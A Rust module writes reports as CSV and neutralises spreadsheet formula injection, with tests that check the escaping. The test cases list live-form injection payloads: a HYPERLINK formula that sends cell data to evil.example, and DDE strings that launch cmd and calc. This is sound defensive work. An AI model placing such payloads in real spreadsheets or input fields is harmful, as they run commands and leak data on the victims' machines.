//! How is a report written as CSV, so that a spreadsheet opens it right and runs nothing in it?
//!
//! RFC 4180 with a byte order mark, without which Excel takes UTF-8 for something else, and with the separator that Excel of the
//! language expects: a semicolon where the comma parts decimals. Headings and rows only: a line of totals would be read as
//! another row. What else is to know of the report is in the file's name, and in the other forms.
//!
//! **Formulas.** A spreadsheet takes a cell for a formula by its first sign, whether it is quoted or not, and a formula can send
//! away what stands beside it. So an apostrophe goes before every text that begins with such a sign: the spreadsheet shows the
//! text and computes nothing. It also goes in after a separator or a line break inside a text, since a program that expects
//! the other separator sees a cell begin there. Numbers are written by the report, never taken from a text, and stay as
//! they are: `-5` is a number, while a telephone number `+358…` is a text and gets the apostrophe. Whoever needs the texts as they
//! stand takes JSON.

use std::io::{BufWriter, Write};

use entity::vocabulary::Language;

use super::table::{Cell, Form, Head, Total};
use crate::reports::error::Result;

/// What spreadsheets begin a formula with; the wide forms are what some of them turn into the narrow ones.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// Where a program that was told another separator sees a cell begin.
const BREAKS: [char; 5] = [';', ',', '\t', '\r', '\n'];

/// CSV.
pub struct Csv<W: Write> {
    out: BufWriter<W>,
    separator: char,
}

impl<W: Write> Csv<W> {
    /// Writes into a sink.
    pub fn new(out: W) -> Self {
        Self {
            out: BufWriter::new(out),
            separator: ',',
        }
    }

    fn line<T: AsRef<str>>(&mut self, cells: impl Iterator<Item = T>) -> Result<()> {
        for (index, cell) in cells.enumerate() {
            if index > 0 {
                write!(self.out, "{}", self.separator)?;
            }
            self.cell(cell.as_ref())?;
        }
        Ok(self.out.write_all(b"\r\n")?)
    }

    fn cell(&mut self, text: &str) -> Result<()> {
        let edge = |end: Option<char>| end.is_some_and(char::is_whitespace);
        let needs_quotes =
            text.contains('"') || text.contains(BREAKS) || edge(text.chars().next()) || edge(text.chars().next_back());
        if needs_quotes {
            write!(self.out, "\"{}\"", text.replace('"', "\"\""))?;
        } else {
            self.out.write_all(text.as_bytes())?;
        }
        Ok(())
    }
}

impl<W: Write> Form for Csv<W> {
    fn begin(&mut self, head: &Head) -> Result<()> {
        self.separator = separator(head.language);
        self.out.write_all("\u{feff}".as_bytes())?;
        self.line(
            head.columns
                .iter()
                .map(|column| inert(column.heading.say(head.language))),
        )
    }

    fn row(&mut self, head: &Head, row: &[Cell]) -> Result<()> {
        let shown = |cell: &Cell| {
            let plain = cell.plain(head.language);
            if matches!(cell, Cell::Number(_)) {
                plain
            } else {
                inert(&plain)
            }
        };
        self.line(row.iter().map(shown))
    }

    fn end(&mut self, _: &Head, _: u64, _: &[Total]) -> Result<()> {
        Ok(self.out.flush()?)
    }
}

/// The separator that spreadsheets of a language expect.
pub const fn separator(language: Language) -> char {
    match language {
        Language::Fi | Language::Sv => ';',
        Language::En => ',',
    }
}

/// A text that no spreadsheet takes for a formula, at its beginning or after any break in it.
fn inert(text: &str) -> String {
    let mut safe = String::with_capacity(text.len() + 1);
    // Some programs drop a tab or line break in front, so it is not left to be the first sign.
    if begins_formula(text) || text.starts_with(['\t', '\r', '\n']) {
        safe.push('\'');
    }
    let mut after_break = false;
    for sign in text.chars() {
        if after_break && FORMULA.contains(&sign) {
            safe.push('\'');
        }
        after_break = BREAKS.contains(&sign);
        // Other control signs show nothing, and end a text for some programs.
        safe.push(if sign.is_control() && !after_break {
            '\u{fffd}'
        } else {
            sign
        });
    }
    safe
}

/// Whether a text begins as formulas do, past what a program may skip: blanks and signs that show nothing.
pub(super) fn begins_formula(text: &str) -> bool {
    let skipped = |sign: char| {
        sign.is_whitespace()
            || sign.is_control()
            || matches!(sign, '\u{feff}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}')
    };
    text.trim_start_matches(skipped).starts_with(FORMULA)
}

#[cfg(test)]
mod tests {
    use entity::vocabulary::Language;

    use super::inert;
    use crate::reports::form::{
        Format,
        table::samples::{row, row_saying, written},
    };

    fn text(language: Language, rows: impl IntoIterator<Item = Vec<crate::reports::form::table::Cell>>) -> String {
        String::from_utf8(written(Format::Csv, language, rows)).expect("CSV is UTF-8")
    }

    /// What an independent reader makes of it.
    fn read_back(language: Language, text: &str) -> Vec<Vec<String>> {
        let text = text.strip_prefix('\u{feff}').expect("it begins with a byte order mark");
        let separator = u8::try_from(super::separator(language)).expect("a separator is ASCII");
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .has_headers(false)
            .from_reader(text.as_bytes());
        let records = reader
            .records()
            .map(|record| record.expect("a record as long as the others"));
        records
            .map(|record| record.iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn a_report_reads_back_as_it_was_written_in_every_language() {
        for (language, heading, special, butik) in [
            (Language::Fi, "Nimi", "ei", "Webbutik (ruotsiksi)"),
            (Language::Sv, "Namn", "nej", "Webbutik (på svenska)"),
            (Language::En, "Name", "no", "Webbutik (in Swedish)"),
        ] {
            let lines = read_back(language, &text(language, [row(1), row(2)]));
            assert_eq!(lines.len(), 3);
            assert_eq!(lines[0][0], heading);
            assert_eq!(
                lines[1],
                [
                    "Rekisteri 1",
                    "-4",
                    "2021-01-28",
                    "2024-02-29T23:59:58Z",
                    special,
                    "Yhdysvallat (US)",
                    butik,
                    "rekisteri\npalvelu; osa 1\nUS",
                    "ääkköset 🦊 \"lainaus\"; pilkku, rivi\nvaihto",
                ]
            );
        }
    }

    #[test]
    fn lines_end_and_cells_part_as_the_language_has_it() {
        let finnish = text(Language::Fi, [row(1)]);
        assert!(finnish.starts_with("\u{feff}Nimi;Määrä;Alkaen;"), "{finnish}");
        assert!(
            finnish.ends_with("\"ääkköset 🦊 \"\"lainaus\"\"; pilkku, rivi\nvaihto\"\r\n"),
            "{finnish}"
        );
        assert!(text(Language::En, []).starts_with("\u{feff}Name,Number,Since,"));
        assert_eq!(text(Language::En, []).matches("\r\n").count(), 1);
    }

    #[test]
    fn no_text_is_taken_for_a_formula() {
        for (given, expected) in [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1)",
            ),
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("+358 2 621 1100", "'+358 2 621 1100"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t'=1+1"),
            ("\r=1+1", "'\r'=1+1"),
            ("\nplain", "'\nplain"),
            ("\tplain", "'\tplain"),
            ("  =1+1", "'  =1+1"),
            ("\u{a0}=1+1", "'\u{a0}=1+1"),
            ("\u{feff}=1+1", "'\u{feff}=1+1"),
            ("\u{200b}@SUM(A1)", "'\u{200b}@SUM(A1)"),
            ("＝1+1", "'＝1+1"),
            ("＠SUM(A1)", "'＠SUM(A1)"),
            ("\u{0}=1+1", "'\u{fffd}=1+1"),
            // For a program that expects the other separator, a cell begins inside.
            ("plain;=1+1", "plain;'=1+1"),
            ("plain,=1+1,@x", "plain,'=1+1,'@x"),
            ("plain;-1", "plain;'-1"),
            ("colder, -1 degrees", "colder, -1 degrees"),
            ("plain\n=1+1", "plain\n'=1+1"),
            ("plain\r\n=1+1", "plain\r\n'=1+1"),
            // What no program computes stays as it is.
            ("plain", "plain"),
            ("", ""),
            ("1 = 1", "1 = 1"),
            ("a+b", "a+b"),
            ("mail@example.org", "mail@example.org"),
            ("'=1+1", "'=1+1"),
        ] {
            assert_eq!(inert(given), expected, "{given:?}");
        }
    }

    #[test]
    fn no_cell_of_any_program_begins_a_formula() {
        let nasty = "=1+1;=2,@3\t+4\n-5\r\n＝6\";=7\",=8";
        for language in [Language::Fi, Language::Sv, Language::En] {
            let mut cells = row_saying(1, nasty);
            cells[1] = crate::reports::form::table::Cell::Number(-5);
            let written = text(language, [cells]);
            // Whatever is taken for a separator, quoted or not.
            for cell in written
                .split(super::BREAKS)
                .flat_map(|cell| [cell, cell.trim_start_matches('"')])
            {
                assert!(
                    !cell.starts_with(super::FORMULA) || cell == "-5",
                    "{cell:?} in {written:?}"
                );
            }
            assert!(written.contains("-5"), "a number stays one: {written:?}");
        }
    }
}
